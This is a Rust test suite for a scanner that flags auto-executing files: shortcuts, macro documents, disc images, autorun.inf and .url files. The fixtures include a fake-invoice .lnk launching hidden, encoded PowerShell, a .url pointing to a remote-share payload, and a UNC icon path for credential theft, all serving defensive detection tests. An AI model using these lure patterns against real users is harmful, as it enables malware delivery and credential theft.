//! Files that run something when they are opened.
use aegis_host::scanner::autoexec;
use aegis_host::scanner::autoexec::{parse_lnk, LINK_CLSID};
use aegis_host::scanner::finding::Finding;

/// A result with its risk as a fraction.
struct Seen {
    flagged: bool,
    flags: Vec<String>,
    findings: Vec<Finding>,
    risk: f32,
    executes_on_open: bool,
}

fn analyse(data: &[u8], name: &str) -> Result<Seen, ()> {
    let r = autoexec::analyse(data, name);
    Ok(Seen {
        flagged: r.flagged,
        flags: r.flags,
        findings: r.findings,
        risk: r.risk as f32 / 10_000.0,
        executes_on_open: r.executes_on_open,
    })
}

#[test]
fn ordinary_documents_are_not_flagged() {
    for name in [
        "report.pdf", "photo.jpg", "notes.txt", "data.csv", "song.mp3",
        "archive.tar.gz", "page.html", "styles.css", "readme.md",
    ] {
        let res = analyse(b"arbitrary content here", name).unwrap();
        assert!(!res.flagged, "{name} flagged: {:?}", res.flags);
        assert!(!res.executes_on_open);
    }
}

#[test]
fn plain_executable_is_reported_but_stays_low() {
    let res = analyse(b"MZ\x90\x00", "setup.exe").unwrap();
    assert!(res.flagged, "an .exe should at least be named");
    assert!(res.executes_on_open);
    assert!(res.risk < 0.4, "plain .exe scored {}", res.risk);
}

#[test]
fn obsolete_execution_formats_outrank_a_plain_executable() {
    let exe = analyse(b"MZ", "a.exe").unwrap().risk;
    for name in ["a.scr", "a.pif", "a.hta", "a.vbe", "a.jse"] {
        let r = analyse(b"x", name).unwrap().risk;
        assert!(r > exe, "{name} ({r}) should outrank .exe ({exe})");
    }
}

#[test]
fn disc_images_are_flagged_and_explain_the_mark_of_the_web() {
    let res = analyse(b"\x00".repeat(100).as_slice(), "invoice.iso").unwrap();
    assert!(res.flagged);
    assert!(
        res.findings.iter().any(|f| f.why.contains("Mark of the Web")),
        "the MOTW bypass is the entire reason this format matters: {:?}",
        res.findings
    );
}

#[test]
fn multi_dot_extensions_are_matched_whole() {
    let res = analyse(b"[x]", "update.settingcontent-ms").unwrap();
    assert!(res.flagged, "compound extension not matched");
    assert!(res.risk >= 0.7);
}

fn build_lnk(
    relative_path: &str,
    arguments: &str,
    icon: Option<&str>,
    show_command: u32,
) -> Vec<u8> {
    let mut d: Vec<u8> = Vec::new();
    d.extend(0x4Cu32.to_le_bytes());
    d.extend(LINK_CLSID);

    let mut flags = (1u32 << 3) | (1 << 5) | (1 << 7);
    if icon.is_some() {
        flags |= 1 << 6;
    }
    d.extend(flags.to_le_bytes());
    d.extend(0u32.to_le_bytes());
    d.extend([0u8; 24]);
    d.extend(0u32.to_le_bytes());
    d.extend(0u32.to_le_bytes());
    d.extend(show_command.to_le_bytes());
    d.extend(0u16.to_le_bytes());
    d.extend([0u8; 10]);
    assert_eq!(d.len(), 0x4C, "header must be exactly 0x4C bytes");

    let push_str = |d: &mut Vec<u8>, s: &str| {
        let units: Vec<u16> = s.encode_utf16().collect();
        d.extend((units.len() as u16).to_le_bytes());
        for u in units {
            d.extend(u.to_le_bytes());
        }
    };
    push_str(&mut d, relative_path);
    push_str(&mut d, arguments);
    if let Some(i) = icon {
        push_str(&mut d, i);
    }
    d
}

#[test]
fn shortcut_running_encoded_powershell_is_critical() {
    let lnk = build_lnk(
        "..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        Some("%SystemRoot%\\System32\\shell32.dll"),
        7,
    );
    let res = analyse(&lnk, "Invoice_2026.pdf.lnk").unwrap();

    assert!(res.flagged);
    assert!(res.risk >= 0.85, "risk was {}", res.risk);
    assert!(
        res.findings
            .iter()
            .any(|f| f.title.contains("run a system command")),
        "{:?}",
        res.findings
    );
    assert!(
        res.findings.iter().any(|f| f.why.contains("base64-encoded")),
        "the concealment should be named: {:?}",
        res.findings
    );
}

#[test]
fn ordinary_shortcut_is_not_treated_as_an_attack() {
    let lnk = build_lnk("..\\Program Files\\App\\app.exe", "", None, 1);
    let res = analyse(&lnk, "App.lnk").unwrap();

    assert!(
        !res.findings
            .iter()
            .any(|f| f.title.contains("run a system command")),
        "ordinary shortcut wrongly accused: {:?}",
        res.findings
    );
    assert!(res.risk <= 0.6, "ordinary shortcut scored {}", res.risk);
}

#[test]
fn shortcut_parsing_extracts_the_command_line() {
    let lnk = build_lnk("cmd.exe", "/c calc.exe", None, 1);
    let parsed = parse_lnk(&lnk).expect("valid lnk should parse");
    assert_eq!(parsed.relative_path.as_deref(), Some("cmd.exe"));
    assert_eq!(parsed.arguments.as_deref(), Some("/c calc.exe"));
}

#[test]
fn non_shortcuts_are_not_parsed_as_shortcuts() {
    for data in [
        b"MZ\x90\x00".as_slice(),
        b"\x89PNG\r\n\x1a\n",
        b"",
        &[0u8; 200],
        &[0xFFu8; 200],
    ] {
        assert!(parse_lnk(data).is_none(), "non-shortcut parsed as one");
    }
}

#[test]
fn malformed_shortcuts_never_panic() {
    let full = build_lnk("powershell.exe", "-enc AAAA", Some("shell32.dll"), 7);
    for n in 0..full.len() {
        let _ = parse_lnk(&full[..n]);
        let _ = analyse(&full[..n], "x.lnk").unwrap();
    }
    let mut d = full.clone();
    d[0x4C] = 0xFF;
    d[0x4C + 1] = 0xFF;
    let _ = analyse(&d, "x.lnk").unwrap();

    let mut d = full.clone();
    d[20..24].copy_from_slice(&0xFFFF_FFFFu32.to_le_bytes());
    let _ = analyse(&d, "x.lnk").unwrap();
}

#[test]
fn a_shortcut_whose_strings_do_not_fit_is_none() {
    let full = build_lnk("powershell.exe", "-enc AAAA", Some("shell32.dll"), 7);
    assert!(parse_lnk(&full).is_some());
    let mut d = full.clone();
    d[0x4C] = 0xFF;
    d[0x4C + 1] = 0xFF;
    assert!(parse_lnk(&d).is_none());
    for n in 0..full.len() {
        assert!(parse_lnk(&full[..n]).is_none(), "cut at {n}");
    }
}

#[test]
fn the_optional_blocks_of_a_shortcut_are_passed_over() {
    let plain = build_lnk("cmd.exe", "/c calc.exe", Some("shell32.dll"), 7);
    let mut flagged = plain[..0x4C].to_vec();
    flagged[20] |= 3;
    flagged.extend(5u16.to_le_bytes());
    flagged.extend(b"items");
    flagged.extend(11u32.to_le_bytes());
    flagged.extend(b"located");
    flagged.extend(&plain[0x4C..]);
    let a = parse_lnk(&plain).expect("a shortcut");
    let b = parse_lnk(&flagged).expect("a shortcut");
    assert_eq!(a.relative_path, b.relative_path);
    assert_eq!(a.working_dir, b.working_dir);
    assert_eq!(a.arguments, b.arguments);
    assert_eq!(a.icon_location, b.icon_location);
    assert_eq!(a.starts_hidden, b.starts_hidden);
    assert_eq!(b.arguments.as_deref(), Some("/c calc.exe"));
}

fn build_ooxml(names: &[&str]) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::new();
    let mut central: Vec<u8> = Vec::new();
    for name in names {
        let local = out.len() as u32;
        let content = b"content";
        out.extend(b"PK\x03\x04");
        out.extend([0u8; 14]);
        out.extend((content.len() as u32).to_le_bytes());
        out.extend((content.len() as u32).to_le_bytes());
        out.extend((name.len() as u16).to_le_bytes());
        out.extend(0u16.to_le_bytes());
        out.extend(name.as_bytes());
        out.extend(content);

        central.extend(b"PK\x01\x02");
        central.extend([0u8; 16]);
        central.extend((content.len() as u32).to_le_bytes());
        central.extend((content.len() as u32).to_le_bytes());
        central.extend((name.len() as u16).to_le_bytes());
        central.extend([0u8; 8]);
        central.extend(0u32.to_le_bytes());
        central.extend(local.to_le_bytes());
        central.extend(name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    let cd_size = central.len() as u32;
    out.extend(&central);
    out.extend(b"PK\x05\x06");
    out.extend([0u8; 4]);
    out.extend((names.len() as u16).to_le_bytes());
    out.extend((names.len() as u16).to_le_bytes());
    out.extend(cd_size.to_le_bytes());
    out.extend(cd_offset.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

#[test]
fn ordinary_docx_is_not_flagged() {
    let doc = build_ooxml(&[
        "[Content_Types].xml",
        "word/document.xml",
        "word/styles.xml",
        "docProps/core.xml",
    ]);
    let res = analyse(&doc, "quarterly-report.docx").unwrap();
    assert!(!res.flagged, "clean .docx flagged: {:?}", res.flags);
}

#[test]
fn macro_in_a_macro_free_format_is_critical() {
    let doc = build_ooxml(&[
        "[Content_Types].xml",
        "word/document.xml",
        "word/vbaProject.bin",
    ]);
    let res = analyse(&doc, "invoice.docx").unwrap();
    assert!(res.flagged);
    assert!(res.risk >= 0.75, "risk was {}", res.risk);
    assert!(
        res.findings
            .iter()
            .any(|f| f.title.contains("not allowed to have them")),
        "{:?}",
        res.findings
    );
}

#[test]
fn macro_in_a_declared_macro_format_is_reported_not_condemned() {
    let doc = build_ooxml(&["word/document.xml", "word/vbaProject.bin"]);
    let declared = analyse(&doc, "budget.docm").unwrap();
    let undeclared = analyse(&doc, "budget.docx").unwrap();

    assert!(declared.flagged, "macros should always be reported");
    assert!(
        declared.risk < undeclared.risk,
        "a declared macro ({}) must score below a concealed one ({})",
        declared.risk,
        undeclared.risk
    );
}

#[test]
fn legacy_ole_macros_are_detected() {
    let mut d = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    d.extend(std::iter::repeat_n(0u8, 512));
    for s in ["VBA", "_VBA_PROJECT"] {
        for b in s.bytes() {
            d.push(b);
            d.push(0);
        }
        d.extend([0u8; 16]);
    }
    let res = analyse(&d, "old-report.doc").unwrap();
    assert!(
        res.findings.iter().any(|f| f.title.contains("macros")),
        "legacy macro stream missed: {:?}",
        res.findings
    );
}

#[test]
fn autorun_inf_naming_a_command_is_flagged() {
    let res = analyse(b"[autorun]\r\nopen=setup.exe\r\nicon=setup.exe", "autorun.inf").unwrap();
    assert!(res.flagged);
    assert!(res.risk >= 0.7);
    assert!(res.executes_on_open);
}

#[test]
fn autorun_inside_a_container_is_flagged() {
    let iso = build_ooxml(&["autorun.inf", "setup.exe", "data.bin"]);
    let res = analyse(&iso, "software.zip").unwrap();
    assert!(
        res.findings
            .iter()
            .any(|f| f.title.contains("instruction to run something")),
        "{:?}",
        res.findings
    );
}

#[test]
fn url_shortcut_to_a_remote_share_is_flagged() {
    let res = analyse(
        b"[InternetShortcut]\r\nURL=file://192.0.2.10/share/payload.exe\r\n",
        "document.url",
    )
    .unwrap();
    assert!(res.risk >= 0.7, "risk was {}", res.risk);
    assert!(
        res.findings.iter().any(|f| f.title.contains("another machine")),
        "{:?}",
        res.findings
    );
}

#[test]
fn url_shortcut_with_a_unc_icon_is_flagged_as_credential_theft() {
    let res = analyse(
        b"[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\192.0.2.10\\x\\i.ico\r\n",
        "news.url",
    )
    .unwrap();
    assert!(
        res.findings
            .iter()
            .any(|f| f.title.contains("just by being displayed")),
        "{:?}",
        res.findings
    );
    assert!(res.risk >= 0.75);
}

#[test]
fn ordinary_url_shortcut_is_not_flagged_as_an_attack() {
    let res = analyse(
        b"[InternetShortcut]\r\nURL=https://example.com/article\r\n",
        "article.url",
    )
    .unwrap();
    assert!(
        !res.findings.iter().any(|f| f.title.contains("another machine")),
        "ordinary web shortcut wrongly accused: {:?}",
        res.findings
    );
    assert!(res.risk <= 0.45);
}

#[test]
fn hostile_input_never_panics() {
    let inputs: Vec<Vec<u8>> = vec![
        vec![],
        vec![0u8; 1],
        vec![0xFFu8; 5000],
        b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec(),
        b"PK\x03\x04".to_vec(),
        b"[InternetShortcut]\r\nURL=".to_vec(),
        b"=".to_vec(),
    ];
    for data in &inputs {
        for name in ["", ".", "..", "x.lnk", "x.url", "autorun.inf", "a.docx", "x"] {
            let _ = analyse(data, name).unwrap();
        }
    }
}
